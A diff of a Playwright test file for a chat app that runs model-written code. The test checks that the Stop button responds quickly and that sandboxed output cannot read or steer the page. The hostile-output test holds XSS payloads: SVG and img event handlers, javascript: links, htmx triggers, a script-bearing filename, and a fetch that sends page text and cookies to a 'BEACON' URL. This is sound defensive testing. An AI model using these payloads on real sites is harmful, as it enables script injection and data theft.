@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import os
 import re
+import time
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -27,6 +28,7 @@ FLAGS = [
     "--disable-sync",
 ]
 SCREENSHOTS = os.environ.get("THREADBOX_SCREENSHOTS")  # a folder to keep pictures of the page in
+STOP_SECONDS = 2.0
 
 PLOT = """import numpy as np
 import matplotlib.pyplot as plt
@@ -100,8 +102,8 @@ def test_the_whole_conversation(page: Page, browser: Browser, chat: Process, mod
         "One period of **sin(x)**, drawn with 200 points.",
         python("print('still here:', len(x))"),
         "The 200 points of the first message.",
-        python("import time\nwhile True:\n    print('tick')\n    time.sleep(0.2)"),
-        python("print('after the stop')"),
+        python("print('round and round')\nwhile True: pass"),
+        python("print('after the stop:', len(x))"),
         "Ready.",
     ]
     begin(page, chat, "@threadbox plot a sine wave")
@@ -120,17 +122,20 @@ def test_the_whole_conversation(page: Page, browser: Browser, chat: Process, mod
 
     second = browser.new_page()
     second.goto(page.url)
-    send(page, "tick for ever")
+    send(page, "go on for ever")
     for tab in (page, second):
-        expect(tab.locator(".live .printed")).to_contain_text("tick", timeout=20_000)
+        expect(tab.locator(".live .printed")).to_have_text("round and round", timeout=20_000)
     picture(page, "working")
+    pressed = time.monotonic()
     second.locator("#stop").click()
     for tab in (page, second):
         expect(tab.locator(".status.stopped")).to_have_count(1, timeout=5000)
+    assert time.monotonic() - pressed < STOP_SECONDS
+    picture(page, "stopped")
     second.close()
 
     send(page, "and now?")
-    expect(page.locator(".printed").nth(3)).to_have_text("after the stop", timeout=20_000)
+    expect(page.locator(".printed").nth(3)).to_have_text("after the stop: 200", timeout=20_000)
     expect(page.locator(".status.done")).to_have_count(3)
     before = page.locator("#entries").inner_text()
     page.reload()
@@ -147,51 +152,67 @@ def test_the_whole_conversation(page: Page, browser: Browser, chat: Process, mod
 
 HOSTILE = r"""
 import os
-svg = '''<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>
-  alert(2); fetch('/c/general'); parent.document.title = 'owned'; top.location = 'about:blank';
+press = "document.getElementById('stop').click()"
+svg = '''<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1);parent.PRESS"><script>
+  alert(2); fetch('STOP', {method: 'POST'}); parent.document.title = 'owned'; top.location = 'about:blank';
 </script><rect width="50" height="50" fill="red"/></svg>'''
-html = '''<h1>hi</h1><img src=x onerror="alert(3)"><form action="STOP" method="post"><button>go</button></form>
-<script>parent.document.getElementById('stop').click(); document.title = document.cookie; alert(4);
-document.forms[0].submit()</script>'''
-open('evil.svg', 'w').write(svg)
-open('evil.html', 'w').write(html.replace('STOP', '/c/general/t/000000000000/stop'))
-open('<img src=x onerror=alert(5)>.txt', 'w').write('x')
+html = '''<h1>hi</h1><img src=x onerror="alert(3)"><form action="STOP" method="post" target="_top"><button>go</button></form>
+<meta http-equiv="refresh" content="0;url=BEACON"><script>parent.PRESS; document.forms[0].submit();
+fetch('BEACON' + parent.document.body.innerText); document.title = document.cookie; alert(4)</script>'''
+for name, text in {'evil.svg': svg, 'evil.html': html}.items():
+    open(name, 'w').write(text.replace('PRESS', press))
+open(f'<img src=x onerror={press}>.txt', 'w').write('x')
 open('really.png', 'w').write('<script>alert(6)</script>')
-print('<script>alert(7)</script>\x1b]0;x\x07</samp><img src=x onerror=alert(8)>')
+print(f'<script>alert(7);{press}</script>\x1b]0;x\x07</samp><img src=x onerror={press}><i hx-post="STOP" hx-trigger="load">')
 """
+EVIL = (
+    "<script>alert(9)</script> <img src=x onerror=document.getElementById('stop').click()> "
+    "[a](javascript:document.getElementById('stop').click()) ![b](BEACON) <iframe src=/c/general></iframe> "
+    '<i hx-post="STOP" hx-trigger="load">go</i> <form action="STOP" method="post"></form>'
+)
 
 
 def test_hostile_output_cannot_read_the_page_or_press_its_buttons(
     page: Page, chat: Process, model: ModelServer
 ) -> None:
-    evil = (
-        "<script>alert(9)</script> <img src=x onerror=alert(10)> [a](javascript:alert(11)) "
-        "![b](http://127.0.0.1:9/beacon.png) <iframe src=/c/general></iframe>"
-    )
-    model.script[:] = [python(HOSTILE), evil]
-    asked: list[str] = []
-    page.on("response", lambda response: asked.append(f"{response.request.method} {response.url}"))
+    """While a turn runs, which the Stop button of the page would stop."""
+    model.script[:] = ["At your service."]
     begin(page, chat, "@threadbox attack")
     expect(page.locator(".status.done")).to_have_count(1, timeout=20_000)
+    there = {"STOP": f"{page.url}/stop", "BEACON": f"{model.url}/models?stolen="}
+    hostile, evil = (re.sub("STOP|BEACON", lambda found: there[found[0]], text) for text in (HOSTILE, EVIL))
+    model.script[:] = [python(hostile, evil), python("print('round and round')\nwhile True: pass", evil)]
+    asked: list[str] = []
+    page.on("response", lambda response: asked.append(f"{response.request.method} {response.url}"))
+    send(page, "go")
+    expect(page.locator(".live .printed", has_text="round and round")).to_be_visible(timeout=20_000)
     frames = page.locator("iframe.sealed")
     expect(frames).to_have_count(2)
     for index in range(2):
         frames.nth(index).scroll_into_view_if_needed()
+    frames.first.content_frame.get_by_role("button", name="go").click()
     page.wait_for_timeout(1000)
 
+    picture(page, "attacked")
+    expect(page.locator("#stop")).to_be_visible()
+    expect(page.locator(".status.working")).to_have_count(1)
     assert page.title() == "attack · Threadbox"
-    assert [line for line in asked if line.startswith("POST")] == [f"POST {chat.url}/c/general/messages"]
-    assert not any("beacon" in line or line.endswith("/x") for line in asked)
+    assert [line for line in asked if not line.startswith("GET")] == [f"POST {page.url}/messages"]
+    assert sum(line.endswith("/sealed") for line in asked) == 2
+    assert not any("stolen" in line or line.endswith("/x") for line in asked)
     for index in range(2):
         assert frames.nth(index).get_attribute("sandbox") == ""
     answer = page.request.get(chat.url + str(frames.first.get_attribute("src")))
     assert answer.headers["content-security-policy"].startswith("sandbox; default-src 'none'")
-    expect(page.locator(".printed")).to_contain_text("<script>alert(7)</script>")
+    expect(page.locator(".printed", has_text="<script>alert(7)")).to_be_visible()
     named = page.locator(".file a", has_text=".txt")
     with page.expect_download() as download:
         named.click()
     assert "<" not in download.value.suggested_filename
-    assert page.locator("article script, article img[src='x']").count() == 0
+    assert page.locator("article script, article img[src='x'], article [hx-trigger]").count() == 0
+
+    page.locator("#stop").click()  # the button that they were after does stop it
+    expect(page.locator(".status.stopped")).to_have_count(1, timeout=5000)
 
 
 def test_another_site_cannot_post_to_the_chat(page: Page, chat: Process) -> None:
